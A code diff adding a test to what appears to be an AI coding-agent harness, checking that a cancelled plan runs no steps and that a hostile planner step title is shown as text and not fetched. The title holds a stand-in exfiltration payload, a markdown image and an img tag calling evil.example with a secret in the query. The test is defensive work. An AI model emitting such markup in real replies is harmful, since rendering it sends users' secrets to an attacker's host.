@@ -339,3 +339,26 @@ async def test_run_mode_runs_the_session_s_strategy_at_once(ws: Project) -> None
     rows = ws.rows()
     assert [(r["strategy"], r["verified"], r["offered"]) for r in rows] == [("cascade", "pass", 1)]
     assert ws.calc() == FIXED
+
+
+async def test_a_cancelled_plan_runs_no_step_and_a_planner_cannot_make_the_chat_fetch(ws: Project) -> None:
+    hostile = [{**STEPS[0], "title": "Fix add ![x](https://evil.example/?k=secret) <img src=https://evil.example/i>"}]
+
+    def script(kind: str, listed: list[str]) -> None:
+        ws.fake.queue_for(listed[0], plan_answer(hostile))
+
+    def answer(options: list[PermissionOption], call: ToolCallUpdate) -> str | None:
+        if any(o.name == "Run the plan" for o in options):
+            return next(o.option_id for o in options if o.name == "Cancel")
+        return user(script)(options, call)
+
+    client = RecordingClient(ws.root)
+    client.answers = [answer] * 3
+    response = await ws.turn(client, "plan", "Refactor the calc module across files: fix add, updating every caller")
+
+    assert response.stop_reason == "end_turn"
+    assert len(ws.fake.model_requests()) == 1 and [r["outcome"] for r in ws.rows()] == ["answered"]  # the planner only
+    text = client.text()
+    assert "you cancelled it" in text and ws.calc() == CALC
+    assert "evil.example" in text and "![x](" not in text and "<img" not in text  # shown as text, never fetched
+    assert not any(c.startswith("Step ") for c, _ in final_plan(client))  # no step was queued
